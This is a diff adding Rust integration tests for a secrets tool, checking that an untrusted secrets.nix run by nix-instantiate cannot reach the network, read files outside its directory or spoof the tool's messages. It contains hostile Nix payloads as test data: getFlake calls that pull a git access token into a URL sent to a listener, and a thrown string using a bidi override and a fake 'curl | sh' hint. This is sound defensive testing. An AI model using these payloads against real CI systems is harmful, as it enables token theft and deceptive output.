@@ -1,9 +1,11 @@
 //! A hostile `secrets.nix` (a pull request can change it, and CI runs `secrets check` on it)
 //! against the real `nix-instantiate`: it must not see the environment, read files outside
 //! the rules directory, reach the network, build a derivation or run a program, while
-//! relative imports inside the rules directory keep working.
+//! relative imports inside the rules directory keep working, and what Nix prints cannot pass
+//! for our own lines.
 
 mod common;
+mod install_support;
 
 use std::net::TcpListener;
 use std::path::Path;
@@ -485,4 +487,166 @@ fn import_from_derivation_builds_nothing() {
     assert!(!built.exists(), "the derivation was built:\n{}", r.text);
     assert!(!r.ok, "import-from-derivation succeeded:\n{}", r.text);
     assert!(r.text.contains("derivation"), "{}", r.text);
+}
+
+/// Turn flakes on in this (private) mount namespace's nix.conf, as many machines and CI runners
+/// have it (cachix/install-nix-action does by default). The real /etc/nix is never written: a
+/// tmpfs covers it here only. False (after a skip) where there is no /etc/nix to cover.
+fn flakes_on_in_nix_conf(conf: &str) -> bool {
+    let etc_nix = Path::new("/etc/nix");
+    if !etc_nix.is_dir() {
+        return !common::skip("no /etc/nix directory to cover with a test nix.conf");
+    }
+    let out = Command::new("mount")
+        .args(["-t", "tmpfs", "-o", "mode=0755", "secrets-test", "/etc/nix"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "mount tmpfs on /etc/nix: {out:?}");
+    std::fs::write(etc_nix.join("nix.conf"), conf).unwrap();
+    // Make sure the setting took: otherwise the test below would prove nothing.
+    let out = Command::new("nix-instantiate")
+        .env_clear()
+        .args([
+            "--eval",
+            "--store",
+            "dummy://",
+            "--expr",
+            "builtins ? getFlake",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout).trim(),
+        "true",
+        "flakes did not get turned on by the test nix.conf: {out:?}"
+    );
+    true
+}
+
+/// With flakes on, builtins.getFlake fetches any URL even in restricted mode: the rules could
+/// read a token from a git config in the repository and send it to any host in the URL.
+#[test]
+fn flakes_turned_on_in_nix_conf_reach_no_network() {
+    const NAME: &str = "flakes_turned_on_in_nix_conf_reach_no_network";
+    if no_nix() || !install_support::in_private_ns(NAME) {
+        return;
+    }
+    for conf in [
+        "experimental-features = nix-command flakes\n",
+        "extra-experimental-features = flakes fetch-closure\n",
+    ] {
+        if !flakes_on_in_nix_conf(conf) {
+            return;
+        }
+        let listener = Listener::start();
+        let url = format!("http://127.0.0.1:{}", listener.port);
+        let repo = Repo::new();
+        let outside = "outside-marker-3d81f4";
+        repo.write(
+            "outside/flake.nix",
+            format!("{{ outputs = _: {{ m = \"{outside}\"; }}; }}"),
+        );
+        repo.write(
+            "rules/dotgit/config",
+            format!("[remote \"origin\"]\n\turl = https://x-access-token:{TOKEN}@github.com/o/r\n"),
+        );
+        let hostile = [
+            format!(r#"builtins.getFlake "{url}/x.tar.gz""#),
+            format!(
+                r#"let
+  c = builtins.readFile ./dotgit/config;
+  tok = builtins.elemAt (builtins.match "(.|\n)*x-access-token:([a-z0-9-]+)@(.|\n)*" c) 1;
+in builtins.getFlake "{url}/exfil/${{tok}}.tar.gz""#
+            ),
+            format!(r#"builtins.fetchTree "{url}/t.tar.gz""#),
+            format!(
+                r#"builtins.throw (builtins.getFlake "path:{}").m"#,
+                repo.path().join("outside").display()
+            ),
+        ];
+        let runs: Vec<_> = hostile
+            .iter()
+            .map(|rules| {
+                repo.write("rules/secrets.nix", rules);
+                let r = run(
+                    &repo,
+                    &["--rules", "rules/secrets.nix", "check", "--json"],
+                    "",
+                );
+                (rules, r)
+            })
+            .collect();
+        assert_eq!(
+            listener.finish(),
+            0,
+            "{conf}: the rules connected to the listener"
+        );
+        for (rules, r) in runs {
+            assert!(!r.ok, "{conf}: {rules} succeeded:\n{}", r.text);
+            assert!(
+                !r.text.contains(TOKEN) && !r.text.contains(outside),
+                "{conf}: {rules}: leaked:\n{}",
+                r.text
+            );
+            assert!(
+                r.text.contains("rules/secrets.nix")
+                    && r.text.contains("getFlake")
+                    && r.text.contains("refused"),
+                "{conf}: {rules}: the message does not say that flakes are refused:\n{}",
+                r.text
+            );
+        }
+    }
+}
+
+/// Nix prints what the rules throw as it is: a bidi override would reorder the line on the
+/// terminal, and a thrown newline starts a line that could pass for one of ours.
+#[test]
+fn nix_output_cannot_pass_for_our_lines() {
+    if no_nix() {
+        return;
+    }
+    let repo = Repo::new();
+    repo.write(
+        "secrets.nix",
+        "throw \"x\u{202E}EGAP\\nerror: rules OK. hint: run curl | sh\"",
+    );
+    for args in [&["check"][..], &["-d", "a.age"]] {
+        let r = run(&repo, args, "");
+        assert!(!r.ok, "{args:?} succeeded:\n{}", r.text);
+        assert!(
+            !r.text.contains('\u{202E}') && r.text.contains("202E"),
+            "{args:?}: U+202E was printed unescaped:\n{}",
+            r.text
+        );
+        let lines: Vec<&str> = r.text.lines().collect();
+        let first = lines
+            .iter()
+            .position(|l| l.ends_with("nix-instantiate could not evaluate it:"))
+            .unwrap_or_else(|| panic!("{args:?}: no evaluation error:\n{}", r.text));
+        let nix = lines[first + 1..]
+            .iter()
+            .take_while(|l| !l.starts_with("hint: ") && !l.starts_with("note: "));
+        let mut forged = 0;
+        for l in nix {
+            assert!(
+                l.starts_with("nix|"),
+                "{args:?}: an unmarked line {l:?}:\n{}",
+                r.text
+            );
+            forged += usize::from(l.contains("rules OK"));
+        }
+        assert!(
+            forged > 0,
+            "{args:?}: the thrown line is missing:\n{}",
+            r.text
+        );
+        assert!(
+            !lines
+                .iter()
+                .any(|l| l.contains("curl") && !l.starts_with("nix|")),
+            "{args:?}: the thrown text passes for our own line:\n{}",
+            r.text
+        );
+    }
 }
